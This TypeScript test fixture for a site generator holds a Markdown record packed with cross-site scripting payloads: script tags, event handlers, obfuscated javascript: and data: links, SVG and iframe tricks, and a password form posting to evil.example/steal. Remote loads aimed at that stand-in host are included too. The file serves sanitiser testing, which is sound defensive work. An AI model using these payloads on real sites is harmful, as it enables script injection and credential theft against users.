/**
 * A record whose Markdown body tries every way we know of to get script, frames, forms, unsafe addresses
 * or requests to another host onto a page. The site tests build it into a small site and open it.
 */

/** Where the record goes in the fixture content, and so its page: lessons/brackwater/hostile-markdown/. */
export const HOSTILE_RECORD = { collection: 'lessons', organisation: 'brackwater', slug: 'hostile-markdown' } as const;
export const HOSTILE_PATH = `${HOSTILE_RECORD.collection}/${HOSTILE_RECORD.organisation}/${HOSTILE_RECORD.slug}/`;

/** Text that must survive sanitising, to prove the page rendered the body at all. */
export const SAFE_MARKER = 'Harmless words that must still be shown';

/** The host every hostile address points at; nothing may ever be requested from it. */
export const EVIL_HOST = 'evil.example';

export const HOSTILE_MARKDOWN = [
  '---',
  'title: A lesson with things in it that must never run',
  'summary: Every way we know of smuggling script, frames, forms and unsafe addresses into Markdown.',
  '---',
  '',
  `${SAFE_MARKER}, with some **bold** text and a [safe link](https://www.brackwater.example/).`,
  '',
  '<script>alert("script tag")</script>',
  '<SCRIPT SRC="https://evil.example/remote.js"></SCRIPT>',
  '<img src="x" onerror="alert(\'onerror\')">',
  '<p onclick="alert(\'onclick\')">A paragraph with a click handler</p>',
  '<a href="#" onmouseover="alert(\'onmouseover\')" onfocus="alert(\'onfocus\')" autofocus>hover or focus me</a>',
  '<details open ontoggle="alert(\'ontoggle\')"><summary>Toggle</summary>Details</details>',
  '',
  '[a Markdown javascript: link](javascript:alert("markdown link"))',
  '',
  '<a href="JaVaScRiPt:alert(\'mixed case\')">mixed case</a>',
  '<a href="&#106;avascript:alert(\'entity\')">entity-encoded</a>',
  '<a href="java&#x09;script:alert(\'tab\')">tab inside the scheme</a>',
  '<a href="  javascript:alert(\'leading spaces\')">leading spaces</a>',
  '',
  '<javascript:alert("autolink")>',
  '',
  '![a javascript: image](javascript:alert("image"))',
  '',
  '[a data: link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="data:text/html,<script>alert(\'data html\')</script>">data: HTML</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" alt="data image">',
  '',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>alert(\'srcdoc\')</script>"></iframe>',
  '<svg><script>alert("svg script")</script></svg>',
  '<svg onload="alert(\'svg onload\')"><a href="javascript:alert(\'svg link\')"><text>svg link</text></a></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password">' +
    '<button formaction="javascript:alert(\'formaction\')">Sign in</button></form>',
  '<object data="https://evil.example/object"></object>',
  '<embed src="https://evil.example/embed">',
  '<link rel="stylesheet" href="https://evil.example/sheet.css">',
  '<style>@import url("https://evil.example/import.css"); body { background: url("https://evil.example/background.png") }</style>',
  '<div style="background-image: url(\'https://evil.example/tracker.png\')">a styled block</div>',
  '<base href="https://evil.example/">',
  '',
  '![a tracking pixel](https://evil.example/pixel.gif)',
  '<img src="https://evil.example/pixel.png" width="1" height="1" alt="">',
  '',
  'The end of the hostile record.',
  '',
].join('\n');
